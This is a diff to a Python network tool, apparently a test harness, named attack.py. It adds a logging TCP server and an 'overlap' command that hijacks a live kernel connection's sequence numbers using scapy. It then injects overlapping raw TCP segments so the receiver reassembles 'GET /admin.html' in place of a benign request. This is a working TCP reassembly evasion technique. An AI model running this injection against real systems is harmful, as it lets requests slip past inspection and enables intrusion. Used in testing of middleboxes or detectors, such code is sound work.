@@ -26,6 +26,12 @@ threshold; TCP that must be real uses the kernel's sockets.
                                            N UDP datagrams of SIZE bytes in
                                            fragments, the later ones GAP_MS
                                            after the first
+    attack.py text-server ADDR PORT OUT   TCP server: the bytes received, appended
+                                           to OUT
+    attack.py overlap DST PORT            a kernel connection, then segments under
+                                           it: "index.html..." out of order, the
+                                           same start again with "admin.html...",
+                                           then "GET /" into the gap
     attack.py udp-count ADDR PORT OUT     UDP server: datagrams, in OUT
     attack.py udp-log ADDR PORT OUT       UDP server: each datagram's payload, a
                                            line each, in OUT
@@ -37,6 +43,7 @@ import random
 import socket
 import struct
 import sys
+import threading
 import time
 
 
@@ -119,6 +126,68 @@ def count_server(addr, port, out):
         except OSError:
             pass
         c.close()
+
+
+def text_server(addr, port, out):
+    """Each connection's bytes, as they arrive, appended to OUT (a thread
+    per connection: one whose end never comes does not hold the next)."""
+    def serve(c):
+        c.settimeout(10)
+        try:
+            while True:
+                b = c.recv(65536)
+                if not b:
+                    break
+                with open(out, "ab") as f:
+                    f.write(b)
+        except OSError:
+            pass
+        c.close()
+
+    srv = socket.socket()
+    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    srv.bind((addr, port))
+    srv.listen(8)
+    while True:
+        c, _ = srv.accept()
+        threading.Thread(target=serve, args=(c,), daemon=True).start()
+
+
+def overlap(dst, port):
+    """A connection made by the kernel, then segments written under it:
+    "index.html ..." out of order after a gap of 5 bytes, the same start
+    again covering it with "admin.html ...", then "GET /" into the gap.
+    Linux lets the covering segment replace the queued one, so a receiver
+    reads "GET /admin.html" unless the second never reaches it."""
+    s = scapy()
+    sniff = s.AsyncSniffer(iface="eth0", filter=f"tcp and host {dst} and port {port}")
+    sniff.start()
+    time.sleep(0.5)
+    c = socket.create_connection((dst, port), timeout=5)
+    time.sleep(0.3)
+    got = sniff.stop()
+    syn = [p for p in got if p.haslayer(s.TCP) and p[s.TCP].flags == "S"]
+    synack = [p for p in got if p.haslayer(s.TCP) and p[s.TCP].flags == "SA"]
+    if not syn or not synack:
+        sys.exit(f"overlap: handshake not seen ({len(got)} frames)")
+    sport = syn[0][s.TCP].sport
+    seq = syn[0][s.TCP].seq + 1
+    ack = synack[0][s.TCP].seq + 1
+
+    def seg(off, data):
+        return bytes(s.IP(dst=dst) / s.TCP(sport=sport, dport=port, flags="PA",
+                                           seq=(seq + off) & 0xffffffff, ack=ack,
+                                           window=65535) / s.Raw(data))
+    held = b"index.html HTTP/1.1\r\nHost: a\r\n\r\n"
+    cover = b"admin.html HTTP/1.1\r\nHost: a\r\nX-Evil: 1\r\n\r\n"
+    sock = raw_socket()
+    for off, data in ((5, held), (5, cover), (5, cover), (0, b"GET /")):
+        send_raw(sock, [seg(off, data)], dst)
+        time.sleep(0.2)
+    time.sleep(0.5)
+    c.close()
+    print(f"overlap: held {len(held)} bytes at +5, covered them with {len(cover)}, "
+          f"filled the gap, from port {sport}")
 
 
 def client(dst, port, pieces):
@@ -283,6 +352,10 @@ def main(argv):
         fragspray(args[0], float(args[1]), float(args[2]))
     elif cmd == "fraglegit":
         fraglegit(args[0], int(args[1]), int(args[2]), int(args[3]), int(args[4]))
+    elif cmd == "text-server":
+        text_server(args[0], int(args[1]), args[2])
+    elif cmd == "overlap":
+        overlap(args[0], int(args[1]))
     elif cmd == "udp-count":
         udp_count(args[0], int(args[1]), args[2])
     elif cmd == "udp-log":
